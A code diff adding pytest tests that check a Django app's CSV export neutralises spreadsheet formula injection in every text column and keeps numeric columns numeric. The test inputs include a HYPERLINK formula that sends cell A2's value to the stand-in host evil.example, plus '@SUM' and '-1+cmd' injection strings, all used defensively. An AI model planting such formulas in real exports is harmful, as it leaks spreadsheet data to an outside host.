@@ -1,6 +1,7 @@
 import csv
 import io
 from datetime import date, timedelta
+from decimal import Decimal
 
 import pytest
 from django.urls import reverse
@@ -145,3 +146,44 @@ def test_due_date_events_last_one_day(client, plan):
     calendar = Calendar.from_ical(client.get(ICS).content)
     for event in calendar.walk("VEVENT"):
         assert event.decoded("dtend") - event.decoded("dtstart") == timedelta(days=1)
+
+
+# --- no formula in the CSV --------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("https://evil.example/?x="&A2,"Open")'
+
+
+def _set(model_obj, **values):
+    type(model_obj).objects.filter(pk=model_obj.pk).update(**values)
+
+
+# Each text column of the export, and how a person could put a formula in it.
+TEXT_COLUMNS = {
+    "objective": lambda p, f: _set(p["action"].objective, title=f),
+    "title": lambda p, f: _set(p["action"], title=f),
+    "lead cluster": lambda p, f: _set(p["action"].lead_cluster, name=f),
+    "partners": lambda p, f: _set(p["action"].partners.get(), name=f),
+    "owner": lambda p, f: _set(p["action"].owner, name=f),
+    "currency": lambda p, f: _set(p["action"], budget_currency=f[:3]),
+    "funding source": lambda p, f: _set(p["action"], funding_source=f),
+}
+
+
+@pytest.mark.parametrize("formula", [FORMULA, "  @SUM(A1:A9)", "-1+cmd"])
+@pytest.mark.parametrize("column", TEXT_COLUMNS)
+def test_a_formula_in_any_text_column_is_exported_as_text(client, plan, column, formula):
+    TEXT_COLUMNS[column](plan, formula)
+    sent = formula[:3] if column == "currency" else formula
+
+    (row,) = [r for r in rows(client.get(CSV)) if r["id"] == str(plan["action"].pk)]
+
+    assert row[column] == "'" + sent
+
+
+def test_numbers_stay_numbers_in_the_csv(client, plan):
+    _set(plan["action"], budget_amount=Decimal("-1250.50"))
+
+    (row,) = [r for r in rows(client.get(CSV)) if r["id"] == str(plan["action"].pk)]
+
+    assert (row["progress"], row["budget"], row["start"]) == ("35", "-1250.50", "2026-01-05")
+    assert row["id"] == str(plan["action"].pk)
